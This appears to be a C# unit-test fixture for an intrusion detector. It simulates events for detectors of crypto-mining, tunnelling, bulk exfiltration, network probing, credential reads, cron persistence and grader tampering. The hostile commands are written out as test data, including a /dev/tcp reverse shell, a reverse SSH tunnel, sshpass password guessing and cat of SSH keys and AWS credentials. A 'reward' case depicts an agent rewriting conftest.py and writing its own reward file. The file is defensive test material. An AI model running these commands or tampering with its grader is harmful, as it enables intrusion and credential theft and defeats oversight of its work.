using System.Globalization;
using Aurelian.Events;

namespace Aurelian.UnitTests.Detection.Floods;

/// <summary>What a detector finds only if it remembers, at the end, what happened at the beginning.</summary>
internal sealed record Misdeed(Action<Hand> Begin, Action<Hand> Finish)
{
    private const string Reverse = "ssh -N -R 8080:localhost:80 u@far.example";

    /// <summary>By the detector's name. Those that tell a thing once must not tell it again.</summary>
    internal static IReadOnlyDictionary<string, Misdeed> All { get; } = new Dictionary<string, Misdeed>
    {
        ["mining-stratum"] = new(
            hand => hand.Said("m", ProtocolNames.Stratum, "login"),
            hand => hand.Said("m", ProtocolNames.Stratum, "job", server: true)),
        ["mining-shape"] = new(
            hand =>
            {
                hand.Exec("xm", deleted: true);
                Chat(hand, 12);
            },
            hand => Chat(hand, 18)),
        ["mining-command"] = Twice(hand => hand.Exec("xm -o stratum+tcp://pool.example:3333")),
        ["mining-pool-name"] = Twice(hand => hand.Asked("eu.nanopool.org")),
        ["resource-burn"] = new(
            hand =>
            {
                hand.Exec("xm", deleted: true);
                hand.Burn(5);
            },
            hand => hand.Burn(20)),
        ["resource-tuning"] = Twice(hand => hand.Exec("sysctl -w vm.nr_hugepages=128")),
        ["exfiltration-bulk"] = new(
            hand =>
            {
                hand.Exec("git push", 30);
                hand.Measured("up", "http", 800_000, $"drop{hand.Turn}.example");
            },
            hand =>
            {
                hand.Measured("push", "http", 3_000_000, "git.example", pid: 30);
                hand.Closed("up", "http", hand.Far, 1_100_000, 100, $"drop{hand.Turn}.example");
            }),
        ["tunnel"] = new(
            hand =>
            {
                hand.Exec(Reverse, 20);
                hand.Exec(Reverse, 21);
                hand.Open("inside", CaptureScene.At("10.0.0.5", 22));
            },
            hand =>
            {
                hand.Said("out", ProtocolNames.Ssh, "banner", pid: 20);
                hand.Said("inside", ProtocolNames.Ssh, "banner", pid: 22);
                hand.Wait(4);
                hand.Add(new Fact.Tick());
            }),
        ["tunnel-ssh-initiative"] = Both(
            hand => hand.Measured("s", ProtocolNames.Ssh, 100, initiative: new Initiative(0, 2, 2))),
        ["tunnel-service"] = Twice(hand => hand.Asked(hand.Turn == 0 ? "x.argotunnel.com" : "bore.pub")),
        ["tunnel-anonymiser"] = new(
            Handshake,
            hand =>
            {
                hand.Wait(5);
                Handshake(hand);
            }),
        ["tunnel-dns"] = new(hand => Leak(hand, 0, 10), hand => Leak(hand, 10, 40)),
        ["tunnel-icmp"] = new(hand => Replies(hand, 20, 4), hand => Replies(hand, 60, 6)),
        ["tunnel-beacon"] = Both(hand => Times(10, _ =>
        {
            hand.Wait(60);
            hand.Open("b", hand.Far);
        })),
        ["probing-internal"] = new(
            hand =>
            {
                hand.Asked("intranet.example", "10.9.9.9");
                Times(6, each => hand.Connect(CaptureScene.At($"10.0.{hand.Turn}.{each}", 22)));
            },
            hand =>
            {
                Times(8, each => hand.Connect(CaptureScene.At("10.9.9.9", 80 + each)));
                Times(6, each => hand.Connect(CaptureScene.At($"10.0.{hand.Turn}.{6 + each}", 22)));
            }),
        ["probing-scan"] = new(
            hand => Times(10, each => hand.Connect(CaptureScene.At("203.0.113.7", 100 + each))),
            hand => Times(10, each => hand.Connect(CaptureScene.At("203.0.113.7", 200 + each)))),
        ["probing-passwords"] = new(
            hand =>
            {
                hand.Exec("ssh git@git.example git-upload-pack", 31);
                Guess(hand, 3, 10, hand.Far);
            },
            hand =>
            {
                Guess(hand, 6, 31, Hand.Outside(3, 22));
                Guess(hand, 3, 10, hand.Far);
            }),
        ["probing-password-tool"] = new(
            hand => Times(3, each => hand.Exec($"sshpass -p a{each} ssh u@h{hand.Turn}.example")),
            hand => Times(3, each => hand.Exec($"sshpass -p b{each} ssh u@h{hand.Turn}.example"))),
        ["metadata-access"] = Twice(hand => hand.Connect(CaptureScene.At("169.254.169.254", 80))),
        ["credential-search"] = new(
            hand =>
            {
                hand.Exec("cat /home/dev/.ssh/id_rsa");
                hand.Exec("cat /root/.aws/credentials");
            },
            hand => hand.Exec("cat /root/.netrc")),
        ["persistence-place"] = new(
            hand =>
            {
                hand.Exec("dpkg -i x.deb", 40);
                hand.Wrote("/etc/cron.d/job");
            },
            hand =>
            {
                hand.Wrote("/etc/cron.d/package", 40);
                hand.Wrote("/etc/cron.d/job");
            }),
        ["evasion-refused"] = Twice(hand => hand.Add(new Fact.SyscallRefused("ptrace", ""))),
        ["evasion-concealment"] = new(
            hand => hand.Exec("x", 20, deleted: true), hand => hand.Connect(hand.Far, 20)),
        ["reward"] = new(
            hand =>
            {
                hand.Wrote("/workspace/conftest.py");
                hand.Exec("python3 solution.py", 50 + hand.Turn, "grade");
            },
            hand =>
            {
                hand.Add(new Fact.TestConfigurationChanged("conftest.py", "which pytest obeys", false));
                hand.Wrote("/logs/verifier/reward.txt", 50 + hand.Turn, "grade");
            }),
        ["sigma"] = new(
            hand =>
            {
                hand.Exec($"bash -i >& /dev/tcp/{hand.Far.Address}/443 0>&1", 20);
                Times(2, _ => hand.Open("c", Hand.Outside(9)));
            },
            hand =>
            {
                hand.Open("shell", hand.Far, 20);
                hand.Open("c", Hand.Outside(9));
            }),
    };

    private static void Handshake(Hand hand) => hand.Add(new Fact.PacketRefused(
        hand.From, hand.Far, Transport.Udp, "x", new DatagramOpening(ProtocolNames.WireGuard, null, null, [])));

    private static Misdeed Twice(Action<Hand> act) => new(act, act);

    private static Misdeed Both(Action<Hand> half) => new(half, half);

    private static void Times(int count, Action<int> act)
    {
        for (int each = 0; each < count; each++)
        {
            act(each);
        }
    }

    private static void Chat(Hand hand, int rounds) => Times(rounds, _ =>
    {
        hand.Burn(10);
        hand.Measured("chat", ProtocolNames.Tls, 200);
    });

    private static void Leak(Hand hand, int from, int to)
    {
        Random random = new(from + 1);
        Times(to - from, _ => hand.Asked(string.Create(CultureInfo.InvariantCulture,
            $"{random.NextInt64():x16}{random.NextInt64():x16}.leak{hand.Turn}.example")));
    }

    private static void Replies(Hand hand, int bytes, int count)
    {
        hand.Add(new Fact.IcmpSeen(hand.From, hand.Far, 8, 500, null));
        Times(count, each => hand.Add(new Fact.IcmpSeen(hand.Far, hand.From, 0, bytes + each, false)));
    }

    private static void Guess(Hand hand, int count, int pid, Endpoint server) => Times(count, _ =>
    {
        hand.Wait(5);
        hand.Closed("guess", ProtocolNames.Ssh, server, 2600, 2000, pid: pid);
    });
}
